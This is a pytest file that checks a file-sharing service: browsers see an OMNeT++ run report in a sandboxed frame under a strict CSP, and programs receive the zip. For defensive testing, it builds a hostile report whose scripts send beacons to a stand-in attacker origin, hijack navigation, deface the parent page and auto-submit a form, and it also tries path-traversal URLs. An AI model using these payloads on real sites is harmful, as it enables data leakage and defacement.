"""Share links in a browser (issue 12): a page with the run, a download button and the archive's
report.html in a sandboxed frame; programs still get the zip. Headless Chromium via Playwright.

The archive is a real one: the engine's export of an OMNeT++ run from ../shared/omnetpp-results,
with the engine's own report.html (one self-contained file at the top level: inline CSS, data:
images, one script, the same in every report, that makes its charts explorable; no network).
"""
from __future__ import annotations

import hashlib
import html
import os
import subprocess
import sys
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import requests
from browser import chromium
from test_local_cloud import KEY, raw_request

from local_cloud.client import LocalCloudClient
from local_cloud.testing import LocalCloudServer

REPO = Path(__file__).resolve().parents[1]
RUN = REPO.parent / "shared" / "omnetpp-results" / "aloha-PureAloha1"


def export_run(out: Path) -> Path:
    """The engine's archive of a real run (results.zip), as the pipeline uploads it."""
    env = {**os.environ, "PYTHONPATH": str(REPO / "plugins")}
    zip_path = out / "results.zip"
    subprocess.run([sys.executable, "-m", "omnetpp_results", "export", str(RUN), str(out / "content"),
                    "--precision", "10", "--graphs", "none", "--zip", str(zip_path), "--quiet"],
                   env=env, check=True, capture_output=True, timeout=120)
    return zip_path


def with_member(src: Path, dest: Path, name: str, data: bytes | str) -> Path:
    dest.write_bytes(src.read_bytes())
    with zipfile.ZipFile(dest, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr(name, data)
    return dest


@pytest.fixture(scope="module")
def share(tmp_path_factory):
    """A server holding: the run's archive with its report, the same without, a non-zip, a hostile one."""
    tmp = tmp_path_factory.mktemp("share")
    with_report = export_run(tmp)  # the engine's own report.html
    report_html = zipfile.ZipFile(with_report).read("report.html").decode()
    plain = tmp / "no-report.zip"
    with zipfile.ZipFile(with_report) as z, zipfile.ZipFile(plain, "w") as out:
        for info in z.infolist():
            if info.filename != "report.html":
                out.writestr(info, z.read(info))
    with LocalCloudServer(tmp / "store", KEY) as srv:
        c = LocalCloudClient(srv.url, KEY)
        recs = {
            "run": c.upload(with_report, "Aloha-PureAloha1-results.zip", keep_days=7),
            "plain": c.upload(plain, "no-report.zip", keep_days=7),
            "notzip": c.upload(tmp / "content" / "INFO.txt", "INFO.txt"),
        }
        yield srv, recs, tmp, report_html


@pytest.fixture(scope="module")
def browser():
    with chromium() as b:
        yield b


# --- programs get the file ----------------------------------------------------------------

def test_programs_get_the_zip_itself(share, tmp_path):
    srv, recs, _, _ = share
    rec = recs["run"]
    r = requests.get(rec["link"])  # python requests: Accept */*
    assert r.headers["content-type"] == "application/zip" and hashlib.sha256(r.content).hexdigest() == rec["sha256"]
    assert r.headers["content-disposition"].startswith("attachment;") and r.headers["vary"] == "Accept"
    for tool in (["curl", "-sf", "-o"], ["wget", "-q", "-O"]):
        out = tmp_path / f"by-{tool[0]}.zip"
        subprocess.run([*tool, str(out), rec["link"]], check=True, timeout=60)
        assert hashlib.sha256(out.read_bytes()).hexdigest() == rec["sha256"], tool[0]
    for accept in ("application/zip", "*/*", "", "text/html;q=0, */*"):
        r = requests.get(rec["link"], headers={"Accept": accept})
        assert hashlib.sha256(r.content).hexdigest() == rec["sha256"], accept
    r = requests.get(rec["link"], headers={"Accept": "text/html", "Range": "bytes=0-99"})
    assert r.status_code == 206 and len(r.content) == 100  # a resumed download stays a download
    r = requests.get(rec["link"] + "/download", headers={"Accept": "text/html,*/*;q=0.8"})
    assert hashlib.sha256(r.content).hexdigest() == rec["sha256"]


# --- a person in a browser ---------------------------------------------------------------------

def test_browser_sees_the_run_its_report_and_a_download_button(share, browser, tmp_path):
    srv, recs, _, report_html = share
    rec = recs["run"]
    page = browser.new_page(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    errors, foreign = [], []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("request", lambda r: foreign.append(r.url) if not r.url.startswith(srv.url) else None)
    page.goto(rec["link"])
    frame = page.frame_locator("iframe")
    frame.locator("table").first.wait_for()
    title = html.unescape(report_html.split("<title>", 1)[1].split("</title>", 1)[0]).strip()
    assert page.locator("h1").inner_text() == " ".join(title.split())
    header = page.locator("header").inner_text()
    assert "Aloha-PureAloha1-results.zip" in header and f"{rec['size']:,} bytes" in header
    assert "in 7 days" in header and rec["expires_at"][:10] in header
    assert page.locator("iframe").get_attribute("sandbox") == "allow-scripts"
    charts = frame.locator("img")  # the report's charts, data: PNGs, decoded inside the sandbox
    assert charts.count() >= 1 and charts.first.evaluate("i => i.complete && i.naturalWidth > 0")
    # its one script runs inside the sandbox: every chart is live (hover shows the values)
    live = frame.locator("figure.live")
    live.first.wait_for()
    assert live.count() == frame.locator("figure[data-series]").count() >= 1
    over = live.first.locator(".u-over")
    over.scroll_into_view_if_needed()
    value = live.first.locator(".u-legend .u-series").nth(1).locator(".u-value")
    box = over.bounding_box()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    page.mouse.move(box["x"] + box["width"] / 2 + 3, box["y"] + box["height"] / 2)
    float(value.inner_text().split()[0].replace(",", ""))  # a number under the cursor
    page.screenshot(path=str(tmp_path / "share-page.png"), full_page=True)
    with page.expect_download() as dl:
        page.get_by_role("link", name="Download").click()
    assert hashlib.sha256(Path(dl.value.path()).read_bytes()).hexdigest() == rec["sha256"]
    assert errors == [] and foreign == []
    page.close()
    assert (tmp_path / "share-page.png").stat().st_size > 10_000


def test_archive_without_report_says_so_and_still_offers_the_file(share, browser):
    srv, recs, _, _ = share
    for key in ("plain", "notzip"):
        rec = recs[key]
        page = browser.new_page()
        page.goto(rec["link"])
        assert "has no report.html" in page.locator("main").inner_text()
        assert page.locator("iframe").count() == 0
        with page.expect_download() as dl:
            page.get_by_role("link", name="Download").click()
        assert hashlib.sha256(Path(dl.value.path()).read_bytes()).hexdigest() == rec["sha256"]
        page.close()
        assert requests.get(rec["link"] + "/report.html").status_code == 404


def test_expired_or_unknown_link_gives_a_page_to_browsers(share, browser):
    srv, _, _, _ = share
    page = browser.new_page()
    response = page.goto(srv.url + "/f/" + "x" * 32)
    assert response.status == 404 and "expired or does not exist" in page.locator("h1").inner_text()
    page.close()
    assert requests.get(srv.url + "/f/" + "x" * 32).json()["detail"].startswith("no such file")


# --- only report.html, and only sandboxed ------------------------------------------------------

def test_no_other_member_is_reachable(share, tmp_path):
    srv, recs, _, _ = share
    fid = recs["run"]["id"]
    for target in ["INFO.txt", "csv/scalars.csv", "omnetpp.ini", "report.html/../INFO.txt", "%2e%2e/INFO.txt",
                   "report.html%00.txt", "REPORT.HTML", "report.htm", "report.html/x", "..%2FINFO.txt"]:
        status = raw_request(srv, f"GET /f/{fid}/{target} HTTP/1.1", b"", {"Accept": "text/html"})
        assert status in (400, 404), target
    # members that only look like the report (other folder, traversal, a directory) are not it
    c = LocalCloudClient(srv.url, KEY)
    for i, name in enumerate(["sub/report.html", "../report.html", "/report.html", "report.html/"]):
        odd = tmp_path / f"odd{i}.zip"
        with zipfile.ZipFile(odd, "w") as z:
            z.writestr(name, "<title>not the report</title>")
        rec = c.upload(odd, f"odd{i}.zip")
        assert requests.get(rec["link"] + "/report.html").status_code == 404, name


def test_report_is_served_sandboxed_with_a_strict_policy(share):
    srv, recs, _, report_html = share
    r = requests.get(recs["run"]["link"] + "/report.html")
    assert r.status_code == 200 and r.text == report_html  # streamed out of the zip, byte for byte
    csp = r.headers["content-security-policy"]
    from omnetpp_results.report import SCRIPT_SHA256
    assert csp.startswith("sandbox allow-scripts;") and "default-src 'none'" in csp
    # the report's own script, by its hash, and nothing else: no inline handler, no other script
    assert f"script-src 'sha256-{SCRIPT_SHA256}';" in csp and csp.count("sha256-") == 1
    assert "unsafe-inline'" not in csp.split("script-src", 1)[1].split(";")[0]
    assert "frame-ancestors 'self'" in csp and r.headers["x-content-type-options"] == "nosniff"
    page = requests.get(recs["run"]["link"], headers={"Accept": "text/html"})
    assert "frame-src 'self'" in page.headers["content-security-policy"]
    assert page.headers["x-frame-options"] == "DENY" and page.headers["referrer-policy"] == "no-referrer"


class Evil:
    """Another origin that records every request a hostile report manages to make."""

    def __init__(self):
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(b"<h1>pwned</h1>")

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()


def hostile_report(evil: str) -> str:
    """A report that tries everything, holding the report's real chart script as well: that one
    runs (its chart is drawn), no other, and nothing reaches the other origin or the page."""
    from omnetpp_results.report import SCRIPT
    series = html.escape('{"kind":"vector","xlabel":"","ylabel":"v","lines":[{"label":"m","style":"default",'
                         '"x":[0,1,2],"y":[1,3,2]}]}')
    return f"""<!doctype html><html><head><title>hostile &lt;b&gt;title&lt;/b&gt;</title>
<base href="{evil}/base/"><link rel="stylesheet" href="{evil}/css">
</head><body>
<h1 id="h">report</h1>
<script>document.getElementById('h').textContent = 'script ran'; document.title = 'script ran';</script>
<script>top.location = '{evil}/top';</script>
<script>fetch('{evil}/fetch'); new Image().src = '{evil}/beacon';</script>
<script>parent.document.body.innerHTML = 'defaced';</script>
<img src="{evil}/img"><iframe src="{evil}/frame"></iframe><object data="{evil}/object"></object>
<form id="f" action="{evil}/form" method="post"><input name="a" value="b"></form>
<script>document.getElementById('f').submit();</script>
<a id="top" href="{evil}/click-top" target="_top">go top</a>
<a id="here" href="{evil}/click-here">go here</a>
<a id="popup" href="{evil}/popup" target="_blank">popup</a>
<figure id="fig" data-name="x" data-series="{series}"></figure>
<script>{SCRIPT}</script><script>fetch('{evil}/after-ours');</script></body></html>"""


def test_a_hostile_report_is_contained(share, browser, tmp_path):
    srv, recs, _, _ = share
    evil = Evil()
    try:
        base = recs["plain"]
        src = tmp_path / "src.zip"
        src.write_bytes(requests.get(base["link"]).content)
        hostile = with_member(src, tmp_path / "hostile.zip", "report.html", hostile_report(evil.origin))
        rec = LocalCloudClient(srv.url, KEY).upload(hostile, "hostile.zip")
        context = browser.new_context()
        page = context.new_page()
        page.goto(rec["link"])
        page.wait_for_load_state("networkidle")
        frame = page.frame_locator("iframe")
        assert frame.locator("#h").inner_text() == "report"  # no hostile script ran in the frame
        frame.locator("#fig.live canvas").first.wait_for()  # the report's chart script did
        assert page.locator("h1").inner_text() == "hostile <b>title</b>"  # the title is text, not markup
        for link in ("#popup", "#top", "#here"):  # even a click leads nowhere outside (the last one
            # replaces the frame with the browser's "blocked" page: frame-src 'self' in our CSP)
            frame.locator(link).click()
        page.wait_for_load_state("networkidle")
        assert page.url == rec["link"] and "defaced" not in page.content()
        assert len(context.pages) == 1  # no popup
        # opened on its own, the report is still sandboxed by its CSP header
        alone = context.new_page()
        alone.goto(rec["link"] + "/report.html")
        alone.wait_for_load_state("networkidle")
        assert alone.locator("#h").inner_text() == "report" and alone.url == rec["link"] + "/report.html"
        alone.close()
        # a meta refresh (scripts are allowed in the sandbox, so Chromium obeys it): the frame may
        # only go to this server (frame-src 'self'), the other origin is never asked
        refresh = f'<html><head><meta http-equiv="refresh" content="0;url={evil.origin}/refresh"></head></html>'
        rec = LocalCloudClient(srv.url, KEY).upload(
            with_member(src, tmp_path / "refresh.zip", "report.html", refresh), "refresh.zip")
        page.goto(rec["link"])
        page.wait_for_load_state("networkidle")
        assert page.url == rec["link"] and len(context.pages) == 1
        context.close()
        assert evil.hits == []
    finally:
        evil.close()
